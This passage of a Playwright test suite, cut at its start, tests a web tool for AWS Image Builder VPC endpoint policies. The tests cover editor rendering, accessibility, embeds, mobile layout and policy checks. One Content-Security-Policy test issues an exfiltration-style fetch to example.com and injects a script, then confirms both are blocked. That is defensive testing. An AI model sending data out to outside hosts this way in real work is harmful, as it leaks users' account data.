  for (const zoom of [1, 1.25, 2]) {
    const context = await browser.newContext({ deviceScaleFactor: zoom });
    const page = await open(context, server.base);
    await pasteIntoEditor(page, 'imagebuilder', docs);
    for (const size of [11, 17]) {
      await page.evaluate((size) => {
        document.querySelector('#test-font')?.remove();
        const style = document.createElement('style');
        style.id = 'test-font';
        style.textContent = `pre.code, textarea#policy-editor, pre.gutter { font-size: ${size}px !important; }`;
        document.head.append(style);
      }, size);
      for (const text of [docs, long]) {
        await page.fill('#policy-editor', text);
        // The long text is drawn in parts: its top, its middle and its end (the overlay draws what is in view).
        const scrolls = text === long ? [0, 0.5, 1] : [0];
        let lead;
        for (const at of scrolls) {
          const max = await page.$eval('#policy-editor', (ta) => ta.scrollHeight - ta.clientHeight);
          await scrollEditor(page, Math.round(max * at));
          const { rows, wrongText, drawn, inView, lines, taHeight, overlayHeight, lh } = await lineTops(page);
          const where = `font ${size}px zoom ${zoom}, scrolled to ${at}`;
          assert.deepEqual(wrongText, [], `${where}: drawn lines that are not the textarea's`);
          assert.ok(drawn[0] <= inView[0] && drawn[1] >= inView[1], `${where}: lines ${drawn} drawn, ${inView} in view`);
          if (text === long) assert.ok(drawn[1] - drawn[0] < lines / 2, `${where}: ${drawn[1] - drawn[0]} of ${lines} lines drawn`);
          // A text rectangle starts a constant half-leading below its line box: compare every line with the text's
          // first line, measured at the top (where no newlines stand for lines above it).
          if (at === 0) {
            lead = rows[0][1] - rows[0][2];
            assert.ok(rows[0][0] === 0 && Math.abs(lead) < lh / 2, `${where}: line ${rows[0][0]} off by ${lead}px`);
          }
          const off = rows.filter(([, overlay, caret, gutter]) => Math.abs(overlay - caret - lead) > 1 || Math.abs(gutter - overlay) > 1);
          assert.deepEqual(off.slice(0, 3), [], `${where}: lines drawn away from the caret (line, overlay, caret, gutter)`);
          if (text === long) assert.ok(Math.abs(taHeight - overlayHeight) <= 1, `${where}: overlay height ${overlayHeight} vs textarea ${taHeight}`);
        }
      }
    }
    await context.close();
  }
});

test('the overlay scrolls sideways as far as the textarea, to a long line out of view', async () => {
  // The overlay must be as wide as the textarea's widest line even when that line is not in view.
  // The long line is in the middle: never in view, neither at the start nor after the paste (at the end).
  const statements = Array.from({ length: 120 }, (_, i) => ({ Sid: `S${i}`, Effect: 'Allow', Principal: '*', Action: 'imagebuilder:GetImage', Resource: '*' }));
  statements[60].Sid = `Long${'x'.repeat(400)}`;
  const { context, page } = await fresh();
  await pasteIntoEditor(page, 'imagebuilder', JSON.stringify({ Version: '2012-10-17', Statement: statements }, null, 2));
  await page.evaluate(() => {
    const ta = document.querySelector('#policy-editor');
    ta.scrollTop = 0;
    ta.scrollLeft = ta.scrollWidth;
  });
  await page.waitForFunction(() => {
    const ta = document.querySelector('#policy-editor');
    const overlay = document.querySelector('.editor-body pre.overlay');
    return ta.scrollLeft > 2000 && Math.abs(overlay.scrollLeft - ta.scrollLeft) < 1;
  }, null, { timeout: 5000 });
  await context.close();
});

test('a finding far down a long policy, chosen from the list, is drawn marked where the caret goes', async () => {
  // The overlay draws only the lines in view: choosing a finding out of view scrolls the textarea to it, and the
  // overlay must then draw that line, with its mark, beside the caret.
  const statements = Array.from({ length: 90 }, (_, i) => ({ Sid: `S${i}`, Effect: 'Allow', Principal: '*', Action: 'imagebuilder:GetImage', Resource: '*' }));
  statements[85].Action = 'imagebuilder:GetImagX';
  const { context, page } = await fresh();
  await pasteIntoEditor(page, 'imagebuilder', JSON.stringify({ Version: '2012-10-17', Statement: statements }, null, 2));
  await page.evaluate(() => { document.querySelector('#policy-editor').scrollTop = 0; });
  await page.waitForFunction(() => Number(document.querySelector('.editor-body pre.overlay code').dataset.first) === 0);
  assert.equal(await page.locator('.editor-body pre.overlay .de').count(), 0, 'the marked line is not drawn at the top');
  await page.click('#diagnostics li[data-code="UNKNOWN_ACTION"] button');
  const mark = page.locator('.editor-body pre.overlay .de', { hasText: 'imagebuilder:GetImagX' });
  await mark.waitFor();
  // Drawn inside the editor's visible box, on the caret's line.
  await page.waitForFunction(() => {
    const ta = document.querySelector('#policy-editor');
    const box = ta.getBoundingClientRect();
    const r = document.querySelector('.editor-body pre.overlay .de').getBoundingClientRect();
    return r.top >= box.top && r.bottom <= box.bottom;
  });
  const [caretLine, markTop, base, lh] = await page.evaluate(() => {
    const ta = document.querySelector('#policy-editor');
    const cs = getComputedStyle(ta);
    const lines = ta.value.split('\n');
    const lh = (ta.scrollHeight - parseFloat(cs.paddingTop) - parseFloat(cs.paddingBottom)) / lines.length;
    const base = ta.getBoundingClientRect().top + parseFloat(cs.paddingTop) - ta.scrollTop;
    return [ta.value.slice(0, ta.selectionStart).split('\n').length - 1,
      document.querySelector('.editor-body pre.overlay .de').getBoundingClientRect().top, base, lh];
  });
  assert.ok(Math.abs(markTop - (base + caretLine * lh)) < lh / 2, `mark at ${markTop}, caret's line ${caretLine} at ${base + caretLine * lh}`);
  await context.close();
});

test('hovering a marked place in the editor shows its finding', async () => {
  const { context, page } = await fresh();
  const broken = fs.readFileSync(path.join(fixtures, 'docs-general.json'), 'utf8');
  await pasteIntoEditor(page, 'imagebuilder', broken);
  const mark = page.locator('.editor .de', { hasText: 'imagebuilder: DeleteImage' }).first();
  const box = await mark.boundingBox();
  await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
  await page.waitForFunction(() => document.querySelector('#policy-editor').title.startsWith('INVALID_ACTION'));
  await page.mouse.move(box.x + box.width / 2, box.y - 60);
  assert.doesNotMatch(await page.getAttribute('#policy-editor', 'title'), /INVALID_ACTION/);
  await context.close();
});

test('phones: no horizontal scroll at 320 and 390 px, touch targets at least 24 by 24 px', async () => {
  for (const width of [320, 390]) {
    const context = await browser.newContext({ viewport: { width, height: 844 }, isMobile: true, hasTouch: true });
    const page = await open(context, server.base);
    await page.fill('#principal-org-id', 'o-a1b2c3d4e5');
    await page.click('#edit-imagebuilder');
    await page.fill('#policy-editor', fs.readFileSync(path.join(fixtures, 'docs-general.json'), 'utf8'));
    const wide = await page.evaluate(() => [document.documentElement.scrollWidth, window.innerWidth]);
    assert.ok(wide[0] <= wide[1], `${width}px: the page is ${wide[0]}px wide`);
    const small = await page.$$eval('button, select, input, textarea, summary, a[href]', (els) => els
      .filter((e) => e.offsetParent !== null && getComputedStyle(e).visibility !== 'hidden')
      .map((e) => [e.id || e.className || e.textContent.trim().slice(0, 30), e.getBoundingClientRect()])
      .filter(([, r]) => r.width > 0 && (r.width < 24 || r.height < 24))
      .map(([name, r]) => `${name} ${Math.round(r.width)}x${Math.round(r.height)}`));
    assert.deepEqual(small, [], `${width}px: targets under 24x24`);
    await context.close();
  }
});

test('focus goes somewhere sensible after every button, and axe finds nothing with the editor open on a broken policy', async () => {
  const { context, page } = await fresh();
  const active = () => page.evaluate(() => document.activeElement?.id);
  await page.click('#edit-imagebuilder');
  assert.equal(await active(), 'policy-editor', '"Edit or paste" focuses the editor');
  await page.fill('#policy-editor', fs.readFileSync(path.join(fixtures, 'docs-general-nbsp.json'), 'utf8'));
  await expectText(page, '#diagnostics-announce', /\d+ error\(s\)/);
  assert.equal(await page.getAttribute('#diagnostics-announce', 'aria-live'), 'polite');
  await injectAxe(page);
  const result = await page.evaluate(async () => await window.axe.run(document, { resultTypes: ['violations'] }));
  assert.deepEqual(result.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`), []);
  // On a slow machine Yew yields to the browser halfway through the render that brings the button back: closing
  // on a CPU slowed eightfold must still land on it (it fell to <body> before).
  const cdp = await context.newCDPSession(page);
  await cdp.send('Emulation.setCPUThrottlingRate', { rate: 8 });
  await page.click('#close-editor');
  await page.waitForFunction(() => document.activeElement?.id === 'edit-imagebuilder', null, { timeout: 10000 });
  await cdp.send('Emulation.setCPUThrottlingRate', { rate: 1 });
  await context.close();
  const other = await browser.newContext();
  const p2 = await open(other, server.base + '#s=broken');
  await p2.click('#dismiss-notice');
  await p2.waitForFunction(() => document.activeElement?.id === 'main');
  await other.close();
});

test('the page enforces its promise: a Content-Security-Policy blocks requests to other origins', async () => {
  const { context, page } = await fresh();
  const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', 'content');
  assert.match(csp, /connect-src 'self'/);
  assert.match(csp, /script-src 'self' 'wasm-unsafe-eval' 'sha256-/);
  assert.doesNotMatch(csp, /unsafe-inline|https?:/);
  const violations = [];
  page.on('console', (m) => { if (/Content Security Policy/.test(m.text())) violations.push(m.text()); });
  const outcome = await page.evaluate(async () => {
    try { await fetch('https://example.com/exfiltrate?account=111122223333'); return 'sent'; } catch (e) { return `blocked: ${e.message}`; }
  });
  assert.match(outcome, /^blocked/);
  const injected = await page.evaluate(() => new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (e) => resolve(e.violatedDirective), { once: true });
    const s = document.createElement('script');
    s.textContent = 'window.injected = true';
    document.head.append(s);
    setTimeout(() => resolve('not blocked'), 1000);
  }));
  assert.match(injected, /script-src/);
  assert.equal(await page.evaluate(() => window.injected), undefined);
  assert.ok(!page.requests.some((u) => !u.startsWith(server.base.replace(/sub\/path\/$/, ''))), page.requests.join('\n'));
  await context.close();
});

test('an embed sizes its frame through postMessage, copies in a cross-origin frame, keeps its state apart and resets to its prefill', async () => {
  // The host page, on another origin, with the README's snippet.
  const embedUrl = server.base + '?embed=1&region=eu-west-1&environment=preprod';
  const hostHtml = `<!doctype html><html lang="en"><head><title>Docs</title></head><body><h1>Docs</h1>
    <iframe id="vpce" src="${embedUrl}" title="Image Builder VPC endpoint policies" width="100%" height="300"
      allow="clipboard-write" style="border:0"></iframe>
    <script>
      addEventListener("message", (e) => {
        const frame = document.getElementById("vpce");
        if (e.source === frame.contentWindow && e.data && e.data.type === "vpce-policy:height") frame.style.height = e.data.height + "px";
      });
    </script></body></html>`;
  const host = http.createServer((req, res) => { res.writeHead(200, { 'content-type': 'text/html' }); res.end(hostHtml); });
  await new Promise((r) => host.listen(0, '127.0.0.1', r));
  const hostUrl = `http://localhost:${host.address().port}/`; // localhost vs 127.0.0.1: another origin
  const context = await browser.newContext({ permissions: ['clipboard-read', 'clipboard-write'] });
  // The standalone page has saved work the embed must not touch.
  const standalone = await open(context, server.base);
  await standalone.selectOption('#region', 'ap-southeast-2');
  await standalone.waitForTimeout(400);
  const page = await context.newPage();
  await page.goto(hostUrl);
  const frame = page.frameLocator('#vpce');
  await frame.locator('#scenarios tbody tr').first().waitFor();
  await page.waitForFunction(() => document.getElementById('vpce').getBoundingClientRect().height > 1000);
  const [frameHeight, contentHeight] = await Promise.all([
    page.evaluate(() => document.getElementById('vpce').getBoundingClientRect().height),
    frame.locator('html').evaluate((h) => h.scrollHeight),
  ]);
  assert.ok(Math.abs(frameHeight - contentHeight) <= 2, `frame ${frameHeight} vs content ${contentHeight}`);
  assert.equal(await frame.locator('#region').inputValue(), 'eu-west-1', 'the embed starts from its prefill, not the saved state');
  // Its height follows its content: open the editor and the frame grows.
  await frame.locator('#edit-imagebuilder').click();
  await page.waitForFunction((before) => document.getElementById('vpce').getBoundingClientRect().height > before + 100, frameHeight);
  // Copy works in the cross-origin frame.
  await frame.locator('#copy-s3-cli').click();
  await frame.locator('#copy-s3-cli + .feedback', { hasText: 'Copied' }).waitFor();
  // Reset returns to the author's prefill; the link to the full playground carries the state.
  await frame.locator('#region').selectOption('us-west-2');
  await frame.locator('#reset').click();
  assert.equal(await frame.locator('#region').inputValue(), 'eu-west-1');
  assert.equal(await frame.locator('#environment').inputValue(), 'preprod');
  const full = await frame.locator('#open-full').getAttribute('href');
  assert.match(full, /#s=/);
  assert.doesNotMatch(full, /embed=/);
  // The standalone page's saved work is untouched.
  await standalone.reload();
  await standalone.waitForSelector('#scenarios tbody tr');
  assert.equal(await standalone.inputValue('#region'), 'ap-southeast-2');
  await context.close();
  await new Promise((r) => host.close(r));
});

test('the kit: cards per endpoint as the CLI generates them, a diagram that lights a path and shows a missing endpoint as broken', async () => {
  const cli = path.join(path.dirname(fixtures), '../../target/debug/vpce-policy');
  const context = await browser.newContext();
  const page = await open(context, server.base + '?region=eu-west-1&principalOrgId=o-a1b2c3d4e5&features=packageRepos,logging,containers');
  const fromCli = JSON.parse(execFileSync(cli, ['generate', '--region', 'eu-west-1', '--principal-org-id', 'o-a1b2c3d4e5', '--kit',
    '--with', 'containers', '--format', 'json'], { encoding: 'utf8' }));
  assert.deepEqual(fromCli.endpoints.map((e) => e.id), ['imagebuilder', 's3', 'ssm', 'ssmmessages', 'ec2messages', 'logs', 'ecr.api', 'ecr.dkr']);
  assert.ok(await page.isChecked('#kit-on'));
  assert.ok(await page.isChecked('#feature-containers'));
  for (const e of fromCli.endpoints) {
    const slug = e.id.replace('.', '-');
    await page.click(`#kit-${slug} summary`);
    await page.waitForFunction(([sel, want]) => document.querySelector(sel)?.textContent === want,
      [`#kit-policy-${slug}`, JSON.stringify(e.policy, null, 2)], { timeout: 5000 })
      .catch(async () => assert.equal(await text(page, `#kit-policy-${slug}`), JSON.stringify(e.policy, null, 2), e.id));
    assert.match(await text(page, `#kit-${slug}`), new RegExp(e.serviceName.replace(/\./g, '\\.')));
  }
  assert.equal(await page.locator('#kit-diagram g[data-endpoint]').count(), 8);
  let r = await rows(page);
  assert.ok(r.some((x) => x.name === 'Container image is pushed') && r.every((x) => x.pass === 'true'), JSON.stringify(r));

  // A scenario lights up its path.
  await page.click('#scenarios tbody tr:has-text("Run Command delivers a step") button.replay');
  assert.match(await page.getAttribute('#kit-diagram g[data-endpoint="ec2messages"]', 'class'), /\blit\b/);
  await expectText(page, '#kit-path', /Run Command delivers a step.*ec2messages endpoint.*allowed/);

  // Turning the ssm endpoint off breaks exactly the scenarios that need it, and the diagram says so.
  await page.click('#kit-on-ssm');
  await page.waitForSelector('#kit-diagram g[data-endpoint="ssm"][data-present="false"]');
  await expectText(page, '#kit-broken', /No ssm endpoint breaks: SSM agent registers/);
  r = await rows(page);
  const failed = r.filter((x) => x.pass === 'false').map((x) => x.name);
  assert.deepEqual(failed, ['SSM agent registers']);
  await expectText(page, '#scenarios', /no route: the ssm endpoint is missing/);

  // The toggles travel in the share link.
  await page.waitForTimeout(400);
  const link = page.url();
  const other = await browser.newContext();
  const again = await open(other, link);
  await again.waitForSelector('#kit-diagram g[data-endpoint="ssm"][data-present="false"]');
  assert.ok(await again.isChecked('#feature-containers'));
  await other.close();

  await injectAxe(page);
  const result = await page.evaluate(async () => await window.axe.run(document.querySelector('#kit'), { resultTypes: ['violations'] }));
  assert.deepEqual(result.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(' ')).join(', ')}`), []);
  await page.click('#kit-restore-ssm');
  await page.waitForSelector('#kit-diagram g[data-endpoint="ssm"][data-present="true"]');
  assert.deepEqual(page.errors, []);
  await context.close();
});

test('a pasted 5 MB text does not freeze the tab: only its size is checked, and the page keeps answering', async () => {
  const { context, page } = await fresh();
  await page.click('#edit-imagebuilder');
  const big = '{"Version": "2012-10-17", "Statement": [' + '{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"},\n'.repeat(80_000) + ']}';
  assert.ok(big.length > 5_000_000);
  const { bare, took } = await page.evaluate(async (text) => {
    // What Chromium itself needs to lay out a textarea holding this text: the floor under any page.
    const plain = document.createElement('textarea');
    plain.setAttribute('wrap', 'off');
    document.body.appendChild(plain);
    const b0 = performance.now();
    plain.value = text;
    void plain.scrollHeight;
    const bare = performance.now() - b0;
    plain.remove();
    const ta = document.querySelector('#policy-editor');
    const start = performance.now();
    ta.value = text;
    ta.dispatchEvent(new InputEvent('input', { bubbles: true }));
    await new Promise((resolve) => {
      const poll = () => (/POLICY_SIZE_EXCEEDS_ENDPOINT_QUOTA/.test(document.querySelector('#diagnostics')?.textContent ?? '') ? resolve() : setTimeout(poll, 10));
      poll();
    });
    return { bare, took: performance.now() - start };
  }, big);
  console.log(`5 MB paste: findings after ${Math.round(took)} ms; a bare textarea takes ${Math.round(bare)} ms for the same text`);
  assert.ok(took - bare < 4000, `the page adds ${Math.round(took - bare)} ms to the browser's own ${Math.round(bare)} ms`);
  await expectText(page, '#editor-plain', /only its size is checked/);
  assert.equal(await page.locator('#diagnostics li').count(), 1);
  // The page still answers: a click on an option takes effect at once.
  const t0 = Date.now();
  await page.click('#ssm');
  assert.ok(await page.isChecked('#ssm'));
  assert.ok(Date.now() - t0 < 2000);
  assert.deepEqual(page.errors, []);
  await context.close();
});

test('valid is not working: an org-only S3 policy is flagged with AWSTOE and dnf, Fix all makes the build pass; a symptom finds its endpoint', async () => {
  const orgOnly = JSON.stringify({ Version: '2012-10-17', Statement: [{ Sid: 'OrganizationOnly', Effect: 'Allow', Principal: '*', Action: 's3:*', Resource: '*',
    Condition: { StringEquals: { 'aws:PrincipalOrgID': 'o-a1b2c3d4e5' } } }] }, null, 2);
  const context = await browser.newContext();

  // Image Builder and S3 only: the policy text is valid, and the page says the build would still fail.
  const classic = await open(context, server.base + '?region=eu-west-1&principalOrgId=o-a1b2c3d4e5&kit=0');
  await pasteIntoEditor(classic, 's3', orgOnly);
  await expectText(classic, '#valid-but-failing', /No findings in the text, but the build would still fail: .*AWSTOE/);

  // With the kit, the build-needs checks name what breaks, and Fix all lets it through (a fresh context: the
  // first page saved its open editor).
  await context.close();
  const kitContext = await browser.newContext();
  const page = await open(kitContext, server.base + '?region=eu-west-1&principalOrgId=o-a1b2c3d4e5&features=packageRepos,logging');
  assert.ok(await page.isChecked('#kit-on'));
  await pasteIntoEditor(page, 's3', orgOnly);
  await page.waitForSelector('#diagnostics li[data-code="AWS_OWNED_RESOURCE_NOT_ALLOWED"]');
  const message = await text(page, '#diagnostics li[data-code="AWS_OWNED_RESOURCE_NOT_ALLOWED"] .message');
  assert.match(message, /AWSTOE/);
  assert.match(message, /dnf on Amazon Linux 2023/);
  assert.ok(await page.locator('#diagnostics li[data-code="PRINCIPAL_CONDITION_ON_AWS_OWNED_RESOURCE"]').count() >= 1);
  const dnfFails = (rs) => rs.some((x) => /dnf/.test(x.name) && x.pass === 'false');
  let r = await rowsWhen(page, dnfFails);
  assert.ok(dnfFails(r), JSON.stringify(r));
  await page.click('#fix-all');
  await page.waitForFunction(() => !document.querySelector('#diagnostics li[data-code="AWS_OWNED_RESOURCE_NOT_ALLOWED"]'), null, { timeout: 5000 });
  await page.waitForTimeout(300);
  r = await rows(page);
  assert.deepEqual(r.filter((x) => x.expected === 'allowed' && x.pass === 'false').map((x) => x.name), []);

  // From a symptom to its endpoint, shown on the kit. The diagnosis is the whole API's module, loaded only now.
  assert.ok(!page.requests.some((u) => u.includes('lib/vpce_policy')), 'the whole API is not part of the page until the box is used');
  await page.fill('#why-text', 'Encountered error while initiating handshake - Handshake timed out');
  await page.waitForSelector('#why-results li[data-cause="missingEndpoint"]');
  assert.match(await text(page, '#why-results'), /ssmmessages endpoint is missing/);
  assert.ok(page.requests.some((u) => u.includes('lib/vpce_policy_glue_bg.wasm')));
  await page.click('#why-show-0');
  await page.waitForSelector('#kit-diagram g[data-endpoint="ssmmessages"][data-present="false"]');
  await expectText(page, '#kit-broken', /ssmmessages/);
  await page.fill('#why-text', 'the coffee machine is empty');
  await expectText(page, '#why-results', /No known cause matches this text/);

  await injectAxe(page);
  const result = await page.evaluate(async () => await window.axe.run(document.querySelector('#why'), { resultTypes: ['violations'] }));
  assert.deepEqual(result.violations.map((v) => v.id), []);
  assert.deepEqual(page.errors, []);
  await kitContext.close();
});

test('"Try a request" reaches every endpoint of the kit, and every scenario row replays there', async () => {
  const context = await browser.newContext();
  const page = await open(context, server.base + '?region=eu-west-1&principalOrgId=o-a1b2c3d4e5&features=packageRepos,logging');
  const options = await page.$$eval('#request-endpoint option', (os) => os.map((o) => o.value));
  assert.deepEqual(options, ['s3', 'imagebuilder', 'ssm', 'ssmmessages', 'ec2messages', 'logs']);
  await page.selectOption('#request-endpoint', 'ssm');
  await page.waitForFunction(() => document.querySelector('#request-action')?.value.startsWith('ssm:'));
  await page.waitForSelector('#decision[data-decision="allowed"]');
  // A kit scenario row loads its request into the panel, through its own endpoint.
  await page.click('#scenarios tbody tr:has-text("Run Command delivers a step") button.replay');
  await page.waitForFunction(() => document.querySelector('#request-endpoint')?.value === 'ec2messages');
  await page.waitForSelector('#decision[data-decision="allowed"]');
  assert.deepEqual(page.errors, []);
  await context.close();
});

test('a pasted policy that intends more than the settings say (deny deletes, an organization) offers to adopt it', async () => {
  const context = await browser.newContext();
  const page = await open(context, server.base);
  const policy = JSON.stringify({ Version: '2012-10-17', Statement: [
    { Effect: 'Allow', Principal: '*', Action: 'imagebuilder:*', Resource: '*', Condition: { StringEquals: { 'aws:PrincipalOrgID': 'o-a1b2c3d4e5' } } },
    { Effect: 'Deny', Principal: '*', Action: ['imagebuilder:DeleteImage', 'imagebuilder:DeleteComponent'], Resource: '*' }] }, null, 2);
  await pasteIntoEditor(page, 'imagebuilder', policy);
  await expectText(page, '#adopt-0', /organization o-a1b2c3d4e5/);
  await expectText(page, '#adopt-1', /denies Image Builder deletions/);
  await page.click('#adopt-1 button');
  await page.waitForFunction(() => document.querySelector('#deny-deletes')?.checked === true);
  await page.click('#adopt-0 button');
  await page.waitForFunction(() => document.querySelector('#principal-org-id')?.value === 'o-a1b2c3d4e5');
  await page.waitForFunction(() => !document.querySelector('.adopt'));
  assert.equal(await page.inputValue('#policy-editor'), policy, 'adopting a setting keeps the pasted policy');
  assert.deepEqual(page.errors, []);
  await context.close();
});

test('a template pasted into the editor is read by the template reader, loaded only then, with findings at its own lines', async () => {
  const context = await browser.newContext();
  const page = await open(context, server.base);
  await page.waitForTimeout(300);
  assert.ok(!page.requests.some((u) => u.includes('lib/templates/')), 'the template reader is not part of the first load');
  const yaml = fs.readFileSync(path.join(path.dirname(fixtures), '../templates/cases/s3-endpoint-sub-string.yaml'), 'utf8');
  await pasteIntoEditor(page, 's3', yaml);
  await page.waitForSelector('#template-policies li[data-policy="S3Endpoint.PolicyDocument"] li[data-code="JSON_SYNTAX_ERROR"][data-line="17"][data-column="97"]');
  assert.equal(await page.locator('#diagnostics').count(), 0, 'the policy findings give way to the template\'s');
  assert.ok(page.requests.some((u) => u.includes('lib/templates/vpce_policy_templates_glue_bg.wasm')));
  // The reader's module takes the IAM data the page already has (lib/data.js fetches it once per page).
  assert.equal(page.requests.filter((u) => /\/data\/iam-[0-9a-f]{16}\.txt$/.test(new URL(u).pathname)).length, 1);
  const origin = new URL(server.base).origin;
  assert.deepEqual(page.requests.filter((u) => !u.startsWith(origin) && !u.startsWith('data:')), []);
  assert.deepEqual(page.errors, []);
  await context.close();
});

test('the region finder selects: one match at once, Enter takes the first, countries and cities find their regions, and a first visit follows the browser language', async () => {
  const { context, page } = await fresh();
  await page.fill('#region-filter', 'japan');
  await expectText(page, '#region-filter-status', /2 regions match; Enter takes ap-northeast-1/);
  await page.press('#region-filter', 'Enter');
  await page.waitForFunction(() => document.querySelector('#region')?.value === 'ap-northeast-1');
  await page.fill('#region-filter', 'sydney');
  await page.waitForFunction(() => document.querySelector('#region')?.value === 'ap-southeast-2');
  await expectText(page, '#region-filter-status', /ap-southeast-2 — Asia Pacific \(Sydney\) selected/);
  await page.fill('#region-filter', 'germany');
  const germany = await page.$$eval('#region option', (os) => os.map((o) => o.value));
  assert.ok(germany.includes('eu-central-1') && germany.includes('eusc-de-east-1'), JSON.stringify(germany));
  await page.fill('#region-filter', 'zzz');
  await expectText(page, '#region-filter-status', /No region matches “zzz”/);
  await page.press('#region-filter', 'ArrowDown');
  assert.equal(await page.evaluate(() => document.activeElement?.id), 'region');
  await context.close();

  const japanese = await browser.newContext({ locale: 'ja-JP' });
  const jp = await open(japanese, server.base);
  await jp.waitForFunction(() => document.querySelector('#region')?.value === 'ap-northeast-1');
  await expectText(jp, '#s3-policy', /ec2imagebuilder-toe-ap-northeast-1-prod/);
  await japanese.close();
});


test('the first screen asks what the endpoints should cover; the sticky section navigation moves the focus and leaves the share link alone', async () => {
  const { context, page } = await fresh();
  // Everything a private build needs is the default: "only Image Builder and S3" is the choice to make.
  assert.equal(await page.isChecked('#scope-kit'), true);
  assert.ok(await page.isChecked('#kit-on'));
  await page.check('#scope-minimal');
  await page.waitForFunction(() => !document.querySelector('#kit-on')?.checked);
  assert.doesNotMatch(await page.textContent('#s3-policy'), /amazon-ssm-/);
  await page.check('#scope-kit');
  await page.waitForFunction(() => document.querySelector('#kit-on')?.checked === true);
  assert.match(await page.textContent('#s3-policy'), /amazon-ssm-/);
  for (const id of ['request-heading', 'scenarios-heading', 'config-heading']) {
    await page.click(`#nav-${id}`);
    assert.equal(await page.evaluate(() => document.activeElement?.id), id);
    assert.doesNotMatch(await page.evaluate(() => location.hash), /heading/, 'the fragment holds the share state');
  }
  assert.equal(await page.locator('#notice').count(), 0);
  // The navigation stays on screen at the bottom of the page, and at 320 px the page does not scroll sideways.
  await page.evaluate(() => window.scrollTo(0, document.body.scrollHeight));
  const top = await page.evaluate(() => document.querySelector('.section-nav').getBoundingClientRect().top);
  assert.ok(top >= 0 && top < 5, `the navigation is at the top of the viewport (${top})`);
  await page.setViewportSize({ width: 320, height: 640 });
  assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= 320));
  await page.click('#nav-request-heading');
  assert.equal(await page.evaluate(() => document.activeElement?.id), 'request-heading');
  assert.deepEqual(page.errors, []);
  await context.close();
});

test('phones: the kit is a readable list instead of a shrunken picture, and the scenario table can show failures only', async () => {
  const context = await browser.newContext({ viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true });
  const page = await open(context, server.base);
  await page.check('#scope-kit');
  await page.waitForSelector('#kit-list li');
  assert.equal(await page.isVisible('#kit-diagram svg'), false);
  // The generated policies' long ARNs wrap inside their boxes instead of running past the edge.
  const cut = await page.$$eval('#s3-policy, #imagebuilder-policy', (pres) => pres.filter((p) => p.scrollWidth > p.clientWidth + 1).map((p) => p.id));
  assert.deepEqual(cut, []);
  assert.match(await page.textContent('#s3-policy'), /arn:aws:s3:::ec2imagebuilder-toe-us-east-1-prod\/\*/);
  const items = await page.$$eval('#kit-list li', (lis) => lis.map((li) => [li.dataset.endpoint, parseFloat(getComputedStyle(li).fontSize)]));
  assert.ok(items.length >= 5 && items.every(([, size]) => size >= 12), JSON.stringify(items));
  // Failures only: none by default, and all of them when the ssm endpoint is dropped from the kit.
  const all = await page.locator('#scenarios tbody tr').count();
  await page.check('#scenarios-failures-only');
  assert.equal(await page.locator('#scenarios tbody tr').count(), 0);
  await page.click('#kit-on-ssm');
  await page.waitForFunction(() => document.querySelectorAll('#scenarios tbody tr').length > 0);
  assert.ok(await page.$$eval('#scenarios tbody tr', (trs) => trs.every((tr) => tr.dataset.pass === 'false')));
  await page.uncheck('#scenarios-failures-only');
  assert.ok(await page.locator('#scenarios tbody tr').count() >= all);
  // On a wide screen the picture is back.
  await page.setViewportSize({ width: 1366, height: 900 });
  assert.equal(await page.isVisible('#kit-diagram svg'), true);
  assert.equal(await page.isVisible('#kit-list'), false);
  await context.close();
});

test('an embed can show one part of the page, with a height that fits it', async () => {
  const context = await browser.newContext({ viewport: { width: 1366, height: 900 } });
  const page = await context.newPage();
  const height = async (view) => {
    await page.goto(`${server.base}?embed=1&view=${view}`);
    await page.waitForFunction(() => !document.getElementById('first-paint'));
    await page.waitForTimeout(300);
    return page.evaluate(() => document.documentElement.scrollHeight);
  };
  const whole = await height('');
  const scenarios = await height('scenarios');
  assert.equal(await page.locator('#scenarios tbody tr').count() > 0, true);
  assert.equal(await page.locator('#s3-policy, #request, #kit, #replay').count(), 0);
  assert.ok(scenarios < whole / 2, `scenarios ${scenarios} px against ${whole} px for the whole page`);
  await height('policies');
  assert.equal(await page.locator('#s3-policy').count(), 1);
  assert.equal(await page.locator('#scenarios').count(), 0);
  await height('findings');
  await page.waitForSelector('#policy-editor');
  await page.fill('#policy-editor', '{"Statement": [}');
  await page.waitForSelector('#diagnostics li[data-code="JSON_SYNTAX_ERROR"]');
  await height('request');
  assert.equal(await page.locator('#request').count(), 1);
  assert.equal(await page.locator('#s3-policy').count(), 0);
  await context.close();
});
